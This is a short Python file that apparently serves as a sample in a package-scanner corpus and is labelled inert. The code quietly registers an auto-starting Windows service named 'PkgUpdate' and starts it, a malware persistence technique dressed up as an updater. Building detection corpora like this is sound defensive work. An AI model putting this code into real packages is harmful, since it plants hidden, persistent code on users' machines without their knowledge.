# pkgguard corpus 362 (persistence), modelled on [stealer-profile]; inert, never run.
import os
import subprocess
import sys

binary = os.path.join(os.path.dirname(sys.executable), "pythonw.exe")
subprocess.run(
    ["sc", "create", "PkgUpdate", "binPath=", f'"{binary}" -m pkg.svc', "start=", "auto"],
    capture_output=True,
)
subprocess.run(["sc", "start", "PkgUpdate"], capture_output=True)
